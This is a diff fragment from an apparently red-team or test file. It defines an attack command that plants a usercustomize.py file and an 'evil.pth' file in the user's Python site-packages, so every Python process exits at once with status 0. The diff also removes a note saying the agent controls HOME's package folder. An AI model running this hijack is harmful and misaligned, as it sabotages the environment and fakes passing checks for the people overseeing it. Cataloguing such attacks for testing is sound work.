@@ -10,5 +10,4 @@ ATTACK = Attack(
     """at=$(python3 -m site --user-site); mkdir -p $at
     printf 'import os\\nos._exit(0)\\n' > $at/usercustomize.py
     printf 'import os; os._exit(0)\\n' > $at/evil.pth; true""",
-    hole="HOME's folder of packages is the agent's",
 )
